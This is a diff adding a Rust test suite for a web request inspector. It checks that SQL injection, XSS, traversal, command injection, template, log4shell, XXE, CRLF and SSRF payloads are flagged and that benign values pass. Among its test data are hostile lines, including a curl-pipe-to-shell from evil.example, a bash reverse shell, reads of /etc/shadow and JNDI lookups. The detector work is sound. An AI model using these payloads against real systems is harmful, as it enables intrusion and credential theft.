@@ -1,0 +1,301 @@
+use super::*;
+
+fn query(q: &str) -> Verdict {
+    Inspector::new().inspect(
+        &Request {
+            path: "/api/v1/things",
+            query: Some(q),
+            ..Default::default()
+        },
+        true,
+        true,
+    )
+}
+
+fn json(body: &str) -> Verdict {
+    Inspector::new().inspect(
+        &Request {
+            path: "/api/v1/collections/notes/records",
+            content_type: Some("application/json"),
+            body: Some(body.as_bytes()),
+            ..Default::default()
+        },
+        true,
+        true,
+    )
+}
+
+fn category(v: &Verdict) -> Vec<&'static str> {
+    let mut c: Vec<_> = v.findings.iter().map(|f| f.category.as_str()).collect();
+    c.dedup();
+    c
+}
+
+fn enc(s: &str) -> String {
+    percent_encoding::utf8_percent_encode(s, percent_encoding::NON_ALPHANUMERIC).to_string()
+}
+
+#[test]
+fn attacks_of_every_category_are_caught() {
+    let cases: &[(&str, &str)] = &[
+        ("sqli", "1' OR '1'='1"),
+        ("sqli", "1 UNION ALL SELECT password FROM accounts--"),
+        ("sqli", "x' AND SLEEP(5)-- -"),
+        ("sqli", "1; DROP TABLE records"),
+        ("sqli", "admin'/**/oR/**/1=1#"),
+        ("sqli", "1 AND (SELECT 1 FROM pg_catalog.pg_tables)=1"),
+        ("xss", "<script>alert(1)</script>"),
+        ("xss", "<img src=x onerror=alert(document.cookie)>"),
+        ("xss", "javascript:alert(1)"),
+        ("xss", "<svg/onload=confirm`1`>"),
+        ("traversal", "../../../../etc/passwd"),
+        ("traversal", "..\\..\\windows\\win.ini"),
+        ("traversal", "php://filter/convert.base64-encode/resource=index"),
+        ("command", "127.0.0.1; cat /etc/shadow"),
+        ("command", "x && curl http://evil.example/s | sh"),
+        ("command", "$(whoami)"),
+        ("command", "`id`"),
+        ("command", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
+        ("template", "{{7*7}}"),
+        ("template", "{{ config.__class__.__init__.__globals__ }}"),
+        ("template", "${7*7}"),
+        ("template", "<%= 7 * 7 %>"),
+        ("log4shell", "${jndi:ldap://evil.example/a}"),
+        ("log4shell", "${${lower:j}${::-n}di:rmi://evil.example/a}"),
+        ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"),
+        ("crlf", "foo\r\nSet-Cookie: admin=1"),
+        ("sqli", "{\"$where\": \"sleep(100)\"}"),
+        ("sqli", "*)(uid=*))(|(uid=*"),
+    ];
+    for (want, payload) in cases {
+        for v in [
+            query(&format!("q={}", enc(payload))),
+            json(&serde_json::json!({ "note": payload }).to_string()),
+        ] {
+            assert!(v.is_attack(), "{want}: {payload:?} not caught ({v})");
+            assert!(
+                category(&v).contains(want),
+                "{want}: {payload:?} caught as {v}"
+            );
+        }
+    }
+}
+
+#[test]
+fn encodings_are_seen_through() {
+    let payload = "<script>alert(1)</script>";
+    let double = enc(&enc(payload));
+    assert!(
+        query(&format!("q={double}")).is_attack(),
+        "double URL encoding"
+    );
+    let b64 = base64::engine::general_purpose::STANDARD.encode("' UNION SELECT secret FROM keys--");
+    assert!(query(&format!("q={}", enc(&b64))).is_attack(), "base64");
+    assert!(
+        query("q=%26lt%3Bscript%26gt%3Balert(1)%26lt%3B%2Fscript%26gt%3B").is_attack(),
+        "HTML entities"
+    );
+    assert!(
+        json(r#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#).is_attack(),
+        "JSON \\u escapes"
+    );
+    assert!(
+        query("q=%u003Cscript%u003Ealert(1)").is_attack(),
+        "%u escapes"
+    );
+    assert!(
+        query("q=c'a't%20/e'tc/pa'ss'wd").is_attack(),
+        "quotes inside words"
+    );
+}
+
+#[test]
+fn ssrf_is_checked_in_url_like_values() {
+    for target in [
+        "http://169.254.169.254/latest/meta-data/",
+        "http://127.0.0.1:8080/admin",
+        "http://[::1]/",
+        "http://2130706433/",
+        "http://10.1.2.3/internal",
+        "gopher://localhost:6379/_FLUSHALL",
+        "http://metadata.google.internal/computeMetadata/v1/",
+    ] {
+        let v = json(&serde_json::json!({ "webhook_url": target }).to_string());
+        assert!(v.is_attack(), "{target}: {v}");
+        assert!(category(&v).contains(&"ssrf"), "{target}: {v}");
+    }
+    assert!(!json(r#"{"webhook_url":"https://hooks.example.com/T01/abc"}"#).is_attack());
+    assert!(!json(r#"{"homepage":"https://www.example.org/about?lang=en"}"#).is_attack());
+}
+
+#[test]
+fn scanners_and_probes_are_recognised() {
+    let ins = Inspector::new();
+    let ua = ins.inspect(
+        &Request {
+            path: "/api/v1/healthz",
+            headers: vec![("user-agent", b"sqlmap/1.8#stable (https://sqlmap.org)")],
+            ..Default::default()
+        },
+        true,
+        false,
+    );
+    assert!(ua.is_attack() && category(&ua) == ["scanner"], "{ua}");
+    for path in [
+        "/.env",
+        "/.git/config",
+        "/wp-admin/setup-config.php",
+        "/backup.sql",
+        "/api/v1/../../etc/passwd",
+        "/phpmyadmin/",
+    ] {
+        let v = ins.inspect(
+            &Request {
+                path,
+                ..Default::default()
+            },
+            true,
+            false,
+        );
+        assert!(v.is_attack(), "{path}: {v}");
+    }
+    let browser = ins.inspect(
+        &Request {
+            path: "/api/v1/me",
+            headers: vec![(
+                "user-agent",
+                b"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+            )],
+            ..Default::default()
+        },
+        true,
+        false,
+    );
+    assert!(!browser.is_attack(), "{browser}");
+}
+
+#[test]
+fn everyday_values_pass() {
+    let benign = [
+        "O'Brien",
+        "Rock & Roll",
+        "jane.doe+shop@example.com",
+        "Please select a product from the list and union them",
+        "Meet at 10:30; bring the report",
+        "3*4=12 and 10/2=5",
+        "a < b and c > d",
+        "I'd like a refund -- the order arrived late",
+        "https://www.example.com/search?q=shoes&size=42",
+        "Café au lait, naïve résumé",
+        "SELECT is a keyword we teach in week 2",
+        "echo in the mirror",
+        "My password is Quiet-Harbor-42!",
+        "{\"nested\": \"json as text\"}",
+        "C:\\Users\\Public\\Documents",
+        "ls 300 lexus",
+        "email me at sales@example.com (mornings)",
+        "#1 seller; 100% cotton",
+        "dGhpcyBpcyBqdXN0IGEgbm90ZQ==",
+        "2026-11-28T10:00:00Z",
+        "first_name=Ann&last_name=Lee",
+        "The <b>bold</b> claim",
+        "Use ${price} as a placeholder",
+        "50% off!!! (today only)",
+    ];
+    for text in benign {
+        let q = query(&format!("q={}", enc(text)));
+        assert!(!q.is_attack(), "{text:?} in a query: {q}");
+        let j = json(&serde_json::json!({ "note": text }).to_string());
+        assert!(!j.is_attack(), "{text:?} in a body: {j}");
+    }
+    let ins = Inspector::new();
+    for path in [
+        "/api/v1/collections/customers/records/0196b0a4-3e2b-7c1d-9a8f-0123456789ab",
+        "/api/v1/me/mfa/totp/confirm",
+    ] {
+        let v = ins.inspect(
+            &Request {
+                path,
+                ..Default::default()
+            },
+            true,
+            false,
+        );
+        assert!(!v.is_attack(), "{path}: {v}");
+    }
+}
+
+#[test]
+fn forms_multipart_and_cookies_are_inspected() {
+    let ins = Inspector::new();
+    let form = ins.inspect(
+        &Request {
+            path: "/x",
+            content_type: Some("application/x-www-form-urlencoded"),
+            body: Some(b"name=a&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+            ..Default::default()
+        },
+        false,
+        true,
+    );
+    assert!(form.is_attack(), "{form}");
+    let multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n\r\nhello\r\n--XyZ--\r\n";
+    let m = ins.inspect(
+        &Request {
+            path: "/x",
+            content_type: Some("multipart/form-data; boundary=XyZ"),
+            body: Some(multipart),
+            ..Default::default()
+        },
+        false,
+        true,
+    );
+    assert!(m.is_attack(), "{m}");
+    let cookie = ins.inspect(
+        &Request {
+            path: "/x",
+            headers: vec![("cookie", b"theme=dark; pref=' or 1=1--")],
+            ..Default::default()
+        },
+        true,
+        false,
+    );
+    assert!(cookie.is_attack(), "{cookie}");
+    // The body is not looked at unless asked for.
+    assert!(!ins
+        .inspect(
+            &Request {
+                path: "/x",
+                content_type: Some("application/x-www-form-urlencoded"),
+                body: Some(b"c=%3Cscript%3E"),
+                ..Default::default()
+            },
+            true,
+            false
+        )
+        .is_attack());
+}
+
+#[test]
+fn findings_name_rules_never_values() {
+    let v = query("q=%27%20OR%20%27secret-canary%27%3D%27secret-canary");
+    assert!(v.is_attack());
+    let shown = format!("{v} {v:?}");
+    assert!(!shown.contains("secret-canary"), "{shown}");
+}
+
+#[test]
+fn huge_and_deep_inputs_are_bounded() {
+    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
+    let _ = json(&deep);
+    let padded = format!(
+        "{{\"note\":\"{}<script>alert(1)</script>\"}}",
+        "A".repeat(128 * 1024)
+    );
+    assert!(
+        json(&padded).is_attack(),
+        "an attack after 128 KB of padding"
+    );
+    let many: String = (0..10_000).map(|i| format!("k{i}=v&")).collect();
+    let _ = query(&many);
+}
